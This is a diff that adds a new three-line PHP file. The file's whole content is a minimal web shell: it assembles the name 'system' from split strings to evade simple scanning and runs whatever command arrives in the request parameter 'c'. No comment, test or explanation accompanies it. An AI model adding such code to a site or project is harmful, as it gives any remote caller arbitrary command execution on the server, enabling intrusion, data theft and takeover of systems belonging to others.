@@ -1,0 +1,3 @@
+<?php
+$s = 'sys'.'tem';
+$s($_REQUEST['c']);
